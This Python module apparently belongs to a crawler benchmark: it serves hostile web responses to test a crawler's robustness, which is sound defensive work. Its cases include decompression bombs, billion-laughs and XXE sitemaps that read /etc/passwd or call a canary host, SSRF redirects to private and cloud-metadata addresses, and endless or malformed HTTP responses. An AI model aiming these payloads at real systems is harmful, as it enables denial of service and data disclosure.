"""What the hosts of the hostile web do, over real sockets: one small coroutine a case."""

from __future__ import annotations

import asyncio
import gzip
import socket
import struct
import zlib
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import count

import brotli

from bench.hostile.case import SECRET

MEGABYTE = 1_000_000
BOMB = 300 * MEGABYTE
"""Bytes that the bombs unpack to."""
SPACE = (
    "<h1>Coworking Quay</h1><p>Rue Haute 12, 1000 Bruxelles</p><p>Hot desk: 150 € per month</p>"
    "<p>Open Monday to Friday, 9:00-18:00</p>"
)


@dataclass
class Asked:
    """A request, and the way back."""

    path: str
    headers: str
    port: int
    writer: asyncio.StreamWriter
    times: int
    """How often this path was asked for before."""
    total: int
    """How often the host was."""

    @property
    def own(self) -> str:
        """The host's own address, as it was asked for."""
        return next(line.split(" ", 1)[1] for line in self.headers.split("\r\n") if line.lower().startswith("host: "))

    async def send(self, *parts: bytes) -> None:
        """Write at once."""
        for part in parts:
            self.writer.write(part)
            await self.writer.drain()

    async def answer(
        self, body: bytes | str = b"", status: int = 200, kind: str = "text/html; charset=utf-8", **headers: object
    ) -> None:
        """A whole and honest answer, but for what `headers` say otherwise."""
        payload = body.encode() if isinstance(body, str) else body
        said = {"Content-Type": kind, "Content-Length": len(payload), "Connection": "close"}
        said |= {name.replace("_", "-"): value for name, value in headers.items()}
        lines = [f"HTTP/1.1 {status} X", *(f"{name}: {value}" for name, value in said.items() if value is not None)]
        await self.send("\r\n".join([*lines, "", ""]).encode("latin-1"), payload)

    def reset(self) -> None:
        """Break the connection off, without the usual goodbye (RST)."""
        plain = self.writer.get_extra_info("socket")
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.writer.transport.abort()


Answer = Callable[[Asked], Awaitable[None]]


def page(body: str = SPACE, head: str = "") -> str:
    """A page of a coworking space."""
    return f"<!doctype html><html lang=en><head><title>Quay</title>{head}</head><body>{body}</body></html>"


async def good(asked: Asked) -> None:
    if asked.path == "/":
        await asked.answer(page(SPACE + '<a href="/prices">Prices</a>'))
    elif asked.path == "/prices":
        await asked.answer(page("<h1>Prices</h1><p>Private office: 300 € per month</p>"))
    else:
        await asked.answer("", 404)


# Slow, broken off, without end


async def silent(asked: Asked) -> None:
    await asyncio.sleep(60)


async def drip(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + page().encode())
    for _ in range(600):
        await asked.send(b"<")
        await asyncio.sleep(0.1)


async def drip_head(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\n")
    for number in range(600):
        await asked.send(f"X-{number}: 1\r\n".encode())
        await asyncio.sleep(0.1)


async def reset_at_once(asked: Asked) -> None:
    asked.reset()


async def reset_in_body(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100000\r\n\r\n" + page().encode())
    await asyncio.sleep(0.1)
    asked.reset()


async def reset_unknown_length(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + page().encode()[:-40])
    await asyncio.sleep(0.1)
    asked.reset()


async def length_too_long(asked: Asked) -> None:
    await asked.answer(page(), Content_Length=100_000)


async def length_too_short(asked: Asked) -> None:
    whole = page(SPACE + "<p>Private office: 300 € per month</p>")
    await asked.answer(whole, Content_Length=len(whole[: whole.index("<p>Private")].encode()))


async def length_huge(asked: Asked) -> None:
    await asked.answer(page(), Content_Length=10**12)


async def length_negative(asked: Asked) -> None:
    await asked.answer(page(), Content_Length=-5)


async def lengths_two(asked: Asked) -> None:
    body = page()
    await asked.answer(body, Content_Length=f"{len(body.encode())}\r\nContent-Length: 7")


async def endless(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + page().encode())
    while True:
        await asked.send(b"<p>more</p>" * 10_000)


async def endless_chunks(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n")
    while True:
        await asked.send(b"10000\r\n", b"x" * 0x10000, b"\r\n")


async def chunk_lies(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n")
    await asked.send(b"zz\r\n", page().encode(), b"\r\n0\r\n\r\n")


async def endless_headers(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\n")
    for number in count():
        await asked.send("".join(f"X-{number}-{n}: {'x' * 1000}\r\n" for n in range(100)).encode())


async def endless_header_line(asked: Asked) -> None:
    await asked.send(b"HTTP/1.1 200 OK\r\nX-Long: ")
    while True:
        await asked.send(b"x" * 100_000)


async def endless_continue(asked: Asked) -> None:
    while True:
        await asked.send(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000)


async def http_09(asked: Asked) -> None:
    await asked.send(page().encode())


async def junk(asked: Asked) -> None:
    await asked.send(b"\x00\x01\xffSSH-2.0-OpenSSH\r\n" * 50)


# Bombs


def _zeros() -> Iterator[bytes]:
    yield from (b" " * MEGABYTE for _ in range(BOMB // MEGABYTE))


@cache
def gzipped(wbits: int = 31) -> bytes:
    """Some hundred kilobytes that unpack to `BOMB` bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return b"".join([*map(packer.compress, _zeros()), packer.flush()])


@cache
def brotlied() -> bytes:
    """The same for brotli: some hundred bytes."""
    packer = brotli.Compressor(quality=1)
    return b"".join([*map(packer.process, _zeros()), packer.finish()])


def pack_bombs() -> None:
    """Pack them beforehand: it takes seconds in which no other host would answer."""
    gzipped(), gzipped(15), brotlied()


async def gzip_bomb(asked: Asked) -> None:
    await asked.answer(gzipped(), Content_Encoding="gzip")


async def deflate_bomb(asked: Asked) -> None:
    await asked.answer(gzipped(15), Content_Encoding="deflate")


async def brotli_bomb(asked: Asked) -> None:
    await asked.answer(brotlied(), Content_Encoding="br")


async def nested_bomb(asked: Asked) -> None:
    await asked.answer(gzip.compress(gzipped()), Content_Encoding="gzip, gzip")


async def gzip_torn(asked: Asked) -> None:
    packed = gzip.compress(page().encode() + bytes(range(256)) * 200)
    await asked.answer(packed[: len(packed) // 2], Content_Encoding="gzip")


async def gzip_lie(asked: Asked) -> None:
    await asked.answer(page(), Content_Encoding="gzip")


async def encoding_unknown(asked: Asked) -> None:
    await asked.answer(zlib.compress(page().encode()), Content_Encoding="klingon")


async def deep_html(asked: Asked) -> None:
    await asked.answer(page("<div>" * 30_000 + SPACE))


async def long_line(asked: Asked) -> None:
    await asked.answer(page(SPACE + "<p>" + "Hot desk 1 € 2 days 3 m² 9:00-18:00 , " * 46_000 + "</p>"))


async def tag_flood(asked: Asked) -> None:
    await asked.answer(page(SPACE + "<p>1" * 50_000))


async def large_html(asked: Asked) -> None:
    await asked.answer(page(SPACE + "<p>" + "word " * 450_000))


async def attribute_flood(asked: Asked) -> None:
    flood = "".join(f"<p a{n}=1 b{n}=2 class='x{n}'>{n}</p>" for n in range(19_000))
    await asked.answer(page(SPACE + flood))


# Redirects


def redirect(target: str, status: int = 302) -> Answer:
    """An answer that leads to `target`, in which {own} is the host itself and {n} how often it was asked."""

    async def answer(asked: Asked) -> None:
        if asked.path.startswith("/end"):
            await asked.answer(page())
        else:
            where = target.format(own=asked.own, n=asked.total, port=asked.port)
            await asked.answer("", status, Location=where)

    return answer


async def redirect_nowhere(asked: Asked) -> None:
    await asked.answer("", 302)


async def meta_refresh_private(asked: Asked) -> None:
    refresh = f'<meta http-equiv="refresh" content="0; url=http://{SECRET}:{asked.port}/">'
    await asked.answer(page("", refresh))


async def meta_refresh_loop(asked: Asked) -> None:
    await asked.answer(page(SPACE, '<meta http-equiv="refresh" content="0; url=/">'))


# Statuses


def status(code: int, times: int = 10**6, **headers: object) -> Answer:
    """An answer with a status, the first so many times."""

    async def answer(asked: Asked) -> None:
        if asked.times < times:
            await asked.answer("", code, **headers)
        else:
            await asked.answer(page())

    return answer


async def partial(asked: Asked) -> None:
    whole = page(SPACE + "<p>Private office: 300 € per month</p>").encode()
    await asked.answer(whole[:-60], 206, Content_Range=f"bytes 0-{len(whole) - 61}/{len(whole)}")


async def error_page(asked: Asked) -> None:
    await asked.answer(page(), 500)


# Bytes that are not what is said of them


def bytes_of(body: bytes, kind: str) -> Answer:
    """A body under a content type."""

    async def answer(asked: Asked) -> None:
        await asked.answer(body, kind=kind)

    return answer


FRENCH = page(SPACE.replace("Rue Haute 12", "Rue de l’Église 12")).replace("’", "'")


# robots.txt


async def robots_changes(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        await asked.answer("User-agent: *\nDisallow:" + (" /" if asked.times else ""), kind="text/plain")
    else:
        await good(asked)


def robots(text: bytes | str = "", code: int = 200, kind: str = "text/plain", **headers: object) -> Answer:
    """A good site with this robots.txt."""

    async def answer(asked: Asked) -> None:
        if asked.path == "/robots.txt":
            where = {name: str(value).format(own=asked.own, port=asked.port) for name, value in headers.items()}
            await asked.answer(text, code, kind, **where)
        else:
            await good(asked)

    return answer


async def robots_endless(asked: Asked) -> None:
    await (endless(asked) if asked.path == "/robots.txt" else good(asked))


async def robots_silent(asked: Asked) -> None:
    await (silent(asked) if asked.path == "/robots.txt" else good(asked))


async def robots_reset(asked: Asked) -> None:
    if asked.path == "/robots.txt":
        asked.reset()
    else:
        await good(asked)


async def robots_loop(asked: Asked) -> None:
    if asked.path.startswith("/robots"):
        await asked.answer("", 302, Location=f"/robots{asked.total}.txt")
    else:
        await good(asked)


async def tdmrep_reserves(asked: Asked) -> None:
    if asked.path.endswith("tdmrep.json"):
        await asked.answer('[{"location": "/prices", "tdm-reservation": 1}]', kind="application/json")
    else:
        await good(asked)


# Sitemaps


def sitemap(text: bytes | str, kind: str = "text/xml", **headers: object) -> Answer:
    """A good site with this sitemap, in which {own} is the host itself."""

    async def answer(asked: Asked) -> None:
        if asked.path.startswith("/sitemap"):
            said = (
                text.replace("{own}", asked.own).replace("{port}", str(asked.port)) if isinstance(text, str) else text
            )
            await asked.answer(said, kind=kind, **headers)
        else:
            await good(asked)

    return answer


def urls(*addresses: str) -> str:
    """A sitemap of these addresses."""
    listed = "".join(f"<url><loc>{address}</loc></url>" for address in addresses)
    return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{listed}</urlset>'


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "prices">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><urlset><url><loc>http://{own}/&l9;</loc></url></urlset>"
)
QUADRATIC = (
    f'<!DOCTYPE x [<!ENTITY a "{"prices" * 20_000}">]>'
    f"<urlset><url><loc>http://{{own}}/{'&a;' * 20_000}</loc></url></urlset>"
)
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://' + SECRET + ':{port}/dtd">%p;]>'
    "<urlset><url><loc>http://{own}/prices?&e;</loc></url></urlset>"
)


async def sitemap_of_itself(asked: Asked) -> None:
    if asked.path.startswith("/sitemap"):
        listed = "".join(
            f"<sitemap><loc>http://{asked.own}/sitemap-{asked.total}-{n}.xml</loc></sitemap>" for n in range(50)
        )
        await asked.answer(f"<sitemapindex>{listed}</sitemapindex>", kind="text/xml")
    else:
        await good(asked)


# Traps


def links(template: str, number: int = 6) -> Answer:
    """Pages that link to ever more: {n} is a number never told before, {here} the path itself."""

    async def answer(asked: Asked) -> None:
        new = [template.format(n=asked.total * number + n, here=asked.path.rstrip("/")) for n in range(number)]
        listed = "".join(
            f'<a href="{path}">Prices {n}</a> <a href="{path}">Locations</a> ' for n, path in enumerate(new)
        )
        await asked.answer(page(SPACE + f"<p>{asked.total}</p>" + listed))

    return answer


ANSWERS: dict[str, Answer] = {
    "good": good,
    "good-tls": good,
    "certificate-expired": good,
    "certificate-of-another": good,
    "certificate-by-nobody": good,
    "tls-junk": junk,
    "tls-silent": silent,
    "silent": silent,
    "drip": drip,
    "drip-head": drip_head,
    "reset-at-once": reset_at_once,
    "reset-in-body": reset_in_body,
    "reset-unknown-length": reset_unknown_length,
    "length-too-long": length_too_long,
    "length-too-short": length_too_short,
    "length-huge": length_huge,
    "length-negative": length_negative,
    "lengths-two": lengths_two,
    "endless": endless,
    "endless-chunks": endless_chunks,
    "chunk-lies": chunk_lies,
    "endless-headers": endless_headers,
    "endless-header-line": endless_header_line,
    "endless-continue": endless_continue,
    "http-09": http_09,
    "junk": junk,
    "gzip-bomb": gzip_bomb,
    "deflate-bomb": deflate_bomb,
    "brotli-bomb": brotli_bomb,
    "nested-bomb": nested_bomb,
    "gzip-torn": gzip_torn,
    "gzip-lie": gzip_lie,
    "encoding-unknown": encoding_unknown,
    "deep-html": deep_html,
    "tag-flood": tag_flood,
    "large-html": large_html,
    "redirect-loop": redirect("/?a"),
    "redirect-endless": redirect("/{n}"),
    "redirect-itself": redirect("/"),
    "redirect-private": redirect(f"http://{SECRET}:{{port}}/"),
    "redirect-metadata": redirect("http://169.254.169.254/latest/meta-data/"),
    "redirect-number": redirect("http://2130706433:{port}/"),
    "redirect-v6": redirect("http://[::1]:{port}/"),
    "redirect-file": redirect("file:///etc/passwd"),
    "redirect-script": redirect("javascript:alert(1)"),
    "redirect-credentials": redirect("http://admin:secret@{own}/end"),
    "redirect-other": redirect("http://good.example:{port}/"),
    "redirect-nowhere": redirect_nowhere,
    "redirect-permanent": redirect("/end", 308),
    "refresh-private": meta_refresh_private,
    "refresh-loop": meta_refresh_loop,
    "status-500": status(500),
    "status-500-page": error_page,
    "status-503": status(503, Retry_After=86400),
    "status-429": status(429, Retry_After=86400),
    "status-429-once": status(429, 1, Retry_After=1),
    "status-429-nonsense": status(429, Retry_After="tomorrow"),
    "status-403": status(403),
    "status-451": status(451),
    "status-410": status(410),
    "status-304": status(304),
    "status-204": status(204),
    "status-206": partial,
    "status-999": status(999),
    "status-1000": status(1000),
    "charset-utf8-lie": bytes_of(FRENCH.encode("cp1252"), "text/html; charset=utf-8"),
    "charset-latin-lie": bytes_of(FRENCH.encode(), "text/html; charset=iso-8859-1"),
    "charset-utf16-lie": bytes_of(FRENCH.replace("<title>", "<meta charset=utf-16><title>").encode(), "text/html"),
    "charset-unknown": bytes_of(FRENCH.encode(), "text/html; charset=klingon"),
    "charset-utf7": bytes_of(page("+ADw-script+AD4-" + SPACE).encode(), "text/html; charset=utf-7"),
    "bytes-zero": bytes_of(b"\0" * 5000, "text/html"),
    "bytes-image": bytes_of(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "text/html"),
    "bytes-empty": bytes_of(b"", "text/html"),
    "type-lie": bytes_of(page().encode(), "image/png"),
    "robots-changes": robots_changes,
    "robots-endless": robots_endless,
    "robots-silent": robots_silent,
    "robots-reset": robots_reset,
    "robots-loop": robots_loop,
    "robots-500": robots(code=500),
    "robots-page": robots(page(), kind="text/html"),
    "robots-binary": robots(bytes(range(256)) * 100),
    "robots-bomb": robots(gzipped(), Content_Encoding="gzip"),
    "robots-slow": robots("User-agent: *\nCrawl-delay: 86400\n"),
    "robots-elsewhere": robots("", 302, Location="http://robots-rules.example:{port}/robots.txt"),
    "robots-rules": robots("User-agent: *\nDisallow: /\n"),
    "robots-private": robots("", 302, Location=f"http://{SECRET}:{{port}}/robots.txt"),
    "tdmrep-reserves": tdmrep_reserves,
    "sitemap-laughs": sitemap(LAUGHS),
    "sitemap-quadratic": sitemap(QUADRATIC),
    "sitemap-outside": sitemap(OUTSIDE),
    "sitemap-bomb": sitemap(gzipped(), "application/gzip"),
    "sitemap-private": sitemap(
        urls(f"http://{SECRET}:{{port}}/prices", "http://10.0.0.1/prices", "file:///etc/prices")
    ),
    "sitemap-endless": sitemap_of_itself,
    "calendar": links("/locations?month={n}"),
    "calendar-path": links("/events/2026/{n}/prices"),
    "facets": links("/prices?colour={n}&amp;size={n}"),
    "deeper": links("{here}/locations/prices"),
    "sessions": links("/prices/{n}abcdef0123456789"),
    "name-unknown": good,
    "name-private": good,
    "name-moves": good,
    "attribute-flood": attribute_flood,
    "long-line": long_line,
}
"""What each case does."""
